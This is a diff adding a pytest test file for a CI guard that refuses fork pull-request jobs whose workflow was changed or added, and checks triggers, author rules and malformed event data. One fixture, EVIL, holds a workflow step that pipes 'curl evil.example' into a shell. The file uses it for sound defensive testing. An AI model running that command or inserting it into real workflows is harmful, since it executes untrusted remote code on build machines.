@@ -1,0 +1,235 @@
+"""The fork-PR guard against the real fork pull request and same-repository ones."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+from pathlib import Path
+
+import pytest
+import responses
+from github_fakes import API, CONTENTS_FILE, CONTENTS_OP, INSTALLATION_ID, example, load_payload
+from github_fakes import run_cli
+from responses import matchers
+
+from runner.github import guard
+from runner.github.client import GitHubClient, RetryPolicy
+
+FORK_PR = "listendev-lstn.pull_request.opened.from-fork.json"
+SAME_REPO_PR = "listendev-lstn.pull_request.opened.same-repo.reviewdog.json"
+WORKFLOW = ".github/workflows/ci.yml"
+BASE_SHA = "e15189e841439da251f852a11d8fc9b339c1be68"  # from the fork payload
+HEAD_SHA = "5864e328f129b98726813940b5bfa44707963bdc"
+CONTENTS = f"{API}/repos/listendev/lstn/contents/{WORKFLOW}"
+
+
+def write_event(tmp_path: Path, payload: dict) -> Path:
+    path = tmp_path / "event.json"
+    path.write_text(json.dumps(payload))
+    return path
+
+
+def job_env(tmp_path: Path, payload: dict, event: str = "pull_request", repository: str | None = None) -> dict:
+    repository = repository or payload["repository"]["full_name"]
+    return {
+        "GITHUB_EVENT_NAME": event,
+        "GITHUB_REPOSITORY": repository,
+        "GITHUB_EVENT_PATH": str(write_event(tmp_path, payload)),
+        "GITHUB_WORKFLOW_REF": f"{repository}/{WORKFLOW}@refs/pull/{payload.get('number', 1)}/merge",
+    }
+
+
+def workflow_file(operations, text: str) -> dict:
+    data = text.encode()
+    body = example(operations, CONTENTS_OP, "200", CONTENTS_FILE)
+    body.update(content=base64.b64encode(data).decode(), size=len(data), path=WORKFLOW, name="ci.yml",
+                sha=hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest())
+    return body
+
+
+def fake_workflows(operations, base: str | None, head: str | None) -> None:
+    for sha, text in ((BASE_SHA, base), (HEAD_SHA, head)):
+        match = [matchers.query_param_matcher({"ref": sha})]
+        if text is None:
+            responses.get(CONTENTS, status=404, json={"message": "Not Found"}, match=match)
+        else:
+            responses.get(CONTENTS, json=workflow_file(operations, text), match=match)
+
+
+def client() -> GitHubClient:
+    return GitHubClient(lambda: "ghs_token", retry=RetryPolicy(attempts=2), sleep=lambda _: None)
+
+
+def no_client() -> GitHubClient:
+    raise AssertionError("this job must not need GitHub")
+
+
+SAFE = "on: pull_request\njobs:\n  test:\n    runs-on: [self-hosted, microvm]\n    steps:\n      - uses: org/microvm-check@v1\n"
+EVIL = SAFE.replace("      - uses: org/microvm-check@v1\n", "      - run: curl evil.example | sh\n")
+
+
+@responses.activate
+def test_real_fork_pr_with_a_changed_workflow_is_refused(tmp_path, operations) -> None:
+    fake_workflows(operations, base=SAFE, head=EVIL)
+    job = guard.job_context(job_env(tmp_path, load_payload(FORK_PR)))
+    assert job.pull_request.from_fork and job.pull_request.head_repo == "leodido/lstn"
+    verdict = guard.evaluate(job, guard.RepoRules(), client)
+    assert not verdict.allowed
+    assert "fork leodido/lstn" in verdict.reasons[0] and "was changed by pull request #217" in verdict.reasons[0]
+    line = guard.error_lines(verdict)[0]
+    assert line.startswith("::error title=microvm-check guard::")
+    assert "pull_request_target" in line and "persist-credentials: false" in line and "\n" not in line
+
+
+@responses.activate
+def test_real_fork_pr_with_the_base_workflow_is_allowed(tmp_path, operations) -> None:
+    fake_workflows(operations, base=SAFE, head=SAFE)
+    verdict = guard.evaluate(guard.job_context(job_env(tmp_path, load_payload(FORK_PR))), guard.RepoRules(), client)
+    assert verdict == guard.Verdict(True, ())
+    assert len(responses.calls) == 2
+
+
+@responses.activate
+def test_workflow_added_by_the_fork_is_refused(tmp_path, operations) -> None:
+    fake_workflows(operations, base=None, head=EVIL)
+    verdict = guard.evaluate(guard.job_context(job_env(tmp_path, load_payload(FORK_PR))), guard.RepoRules(), client)
+    assert not verdict.allowed and "is new in pull request #217" in verdict.reasons[0]
+
+
+@responses.activate
+def test_github_failing_refuses_the_fork_job(tmp_path, monkeypatch, capsys, private_pem, token_endpoint) -> None:
+    """End to end through `microvm-check guard`: GitHub errors make the guard fail closed."""
+    key = tmp_path / "app.pem"
+    key.write_text(private_pem)
+    config = tmp_path / "github.yml"
+    config.write_text(f"app_id: 1\nprivate_key_path: {key}\ninstallation_id: {INSTALLATION_ID}\n")
+    token_endpoint(responses)
+    responses.get(CONTENTS, status=403, json={"message": "Resource not accessible by integration"})
+    for name, value in job_env(tmp_path, load_payload(FORK_PR)).items():
+        monkeypatch.setenv(name, value)
+    assert run_cli(["guard", "--config", str(config)]) == 1
+    out = capsys.readouterr().out
+    assert out.startswith("::error title=microvm-check guard::the guard could not check this job")
+    assert "Resource not accessible by integration" in out
+
+
+@responses.activate
+def test_guard_command_refuses_and_allows(tmp_path, monkeypatch, capsys, operations, private_pem, token_endpoint) -> None:
+    key = tmp_path / "app.pem"
+    key.write_text(private_pem)
+    config = tmp_path / "github.yml"
+    config.write_text(f"app_id: 1\nprivate_key_path: {key}\ninstallation_id: {INSTALLATION_ID}\n")
+    token_endpoint(responses)
+    fake_workflows(operations, base=SAFE, head=EVIL)
+    for name, value in job_env(tmp_path, load_payload(FORK_PR)).items():
+        monkeypatch.setenv(name, value)
+    assert run_cli(["guard", "--config", str(config)]) == 1
+    assert "::error" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("payload_name", [SAME_REPO_PR, "opened.payload.json", "synchronize.payload.json"])
+def test_same_repository_pull_requests_need_no_github(tmp_path, payload_name) -> None:
+    job = guard.job_context(job_env(tmp_path, load_payload(payload_name)))
+    assert not job.pull_request.from_fork
+    assert guard.evaluate(job, guard.RepoRules(), no_client).allowed
+
+
+def test_pull_request_target_from_a_fork_runs_the_base_workflow(tmp_path) -> None:
+    job = guard.job_context(job_env(tmp_path, load_payload(FORK_PR), event="pull_request_target"))
+    assert job.pull_request is None
+    assert guard.evaluate(job, guard.RepoRules(), no_client).allowed
+
+
+def test_deleted_fork_counts_as_a_fork(tmp_path) -> None:
+    payload = load_payload(FORK_PR)
+    payload["pull_request"]["head"]["repo"] = None
+    env = job_env(tmp_path, payload)
+    env["GITHUB_WORKFLOW_REF"] = "other/repo/.github/workflows/reusable.yml@refs/heads/main"
+    verdict = guard.evaluate(guard.job_context(env), guard.RepoRules(), no_client)
+    assert not verdict.allowed and "a deleted fork" in verdict.reasons[0] and "cannot identify" in verdict.reasons[0]
+
+
+def test_rules_require_trusted_triggers(tmp_path) -> None:
+    rules = guard.RepoRules(trusted_triggers=("pull_request_target", "push"))
+    job = guard.job_context(job_env(tmp_path, load_payload(SAME_REPO_PR)))
+    verdict = guard.evaluate(job, rules, no_client)
+    assert not verdict.allowed and "triggered by pull_request" in verdict.reasons[0]
+
+
+def test_rules_require_author_associations(tmp_path) -> None:
+    job = guard.job_context(job_env(tmp_path, load_payload(SAME_REPO_PR)))
+    verdict = guard.evaluate(job, guard.RepoRules(author_associations=("OWNER", "COLLABORATOR")), no_client)
+    assert not verdict.allowed and "author of #285 is MEMBER" in verdict.reasons[0]
+    rules = guard.load_rules(write_rules(tmp_path, "member"))  # case-insensitive, as GitHub spells them upper
+    assert guard.evaluate(job, rules.for_repository("reviewdog/reviewdog"), no_client).allowed
+
+
+def write_rules(tmp_path: Path, association: str) -> Path:
+    path = tmp_path / "rules.yml"
+    path.write_text(
+        "default:\n  trusted_triggers: [pull_request_target]\n"
+        f"repositories:\n  ReviewDog/ReviewDog:\n    author_associations: [{association}]\n"
+    )
+    return path
+
+
+def test_rules_file_default_and_per_repository(tmp_path) -> None:
+    rules = guard.load_rules(write_rules(tmp_path, "OWNER"))
+    assert rules.for_repository("reviewdog/reviewdog") == guard.RepoRules(author_associations=("OWNER",))
+    assert rules.for_repository("someone/else") == guard.RepoRules(trusted_triggers=("pull_request_target",))
+
+
+@pytest.mark.parametrize(
+    "text", ["- a list\n", "repositories: [a]\n", "default: {trusted_triggers: pull_request}\n", "other: 1\n",
+             "default: {unknown: [x]}\n"],
+)
+def test_bad_rules_files_are_refused(tmp_path, text) -> None:
+    path = tmp_path / "rules.yml"
+    path.write_text(text)
+    with pytest.raises(guard.GuardError):
+        guard.load_rules(path)
+
+
+@pytest.mark.parametrize(
+    ("change", "message"),
+    [
+        (lambda env, p: env.pop("GITHUB_EVENT_PATH"), "GITHUB_EVENT_PATH is not set"),
+        (lambda env, p: env.update(GITHUB_EVENT_PATH="/nonexistent/event.json"), "cannot read"),
+        (lambda env, p: Path(env["GITHUB_EVENT_PATH"]).write_text("{not json"), "not JSON"),
+        (lambda env, p: Path(env["GITHUB_EVENT_PATH"]).write_text("[]"), "not a JSON object"),
+        (lambda env, p: env.update(GITHUB_REPOSITORY="x"), "GITHUB_REPOSITORY"),
+        (lambda env, p: env.update(GITHUB_EVENT_NAME="pull request"), "GITHUB_EVENT_NAME"),
+        (lambda env, p: env.update(GITHUB_REPOSITORY="leodido/lstn"), "is not the job's repository"),
+        (lambda env, p: _rewrite(env, p, lambda e: e["pull_request"]["head"].update(sha="HEAD")), "sha"),
+        (lambda env, p: _rewrite(env, p, lambda e: e["pull_request"].pop("base")), "head or base"),
+        (lambda env, p: _rewrite(env, p, lambda e: e.pop("pull_request")), "no pull_request"),
+        (lambda env, p: _rewrite(env, p, lambda e: e["pull_request"].update(number="217")), "number"),
+        (lambda env, p: _rewrite(env, p, lambda e: e["pull_request"]["head"]["repo"].update(full_name="a/b/c")),
+         "malformed"),
+        (lambda env, p: env.update(GITHUB_WORKFLOW_REF="listendev/lstn/.github/workflows/../../x@refs/heads/m"),
+         "workflow path"),
+    ],
+)
+def test_unreadable_job_context_is_an_error(tmp_path, change, message) -> None:
+    payload = load_payload(FORK_PR)
+    env = job_env(tmp_path, payload)
+    change(env, payload)
+    with pytest.raises(guard.GuardError, match=message):
+        guard.job_context(env)
+
+
+def _rewrite(env: dict, payload: dict, edit) -> None:
+    edit(payload)
+    Path(env["GITHUB_EVENT_PATH"]).write_text(json.dumps(payload))
+
+
+def test_oversize_event_file_is_refused(tmp_path, monkeypatch) -> None:
+    env = job_env(tmp_path, load_payload(FORK_PR))
+    monkeypatch.setattr(guard, "MAX_EVENT_BYTES", 1000)
+    with pytest.raises(guard.GuardError, match="larger than 1000"):
+        guard.job_context(env)
+
+
+def test_workflow_command_escaping() -> None:
+    assert guard.escape_data("100%\r\n::error::x") == "100%25%0D%0A::error::x"
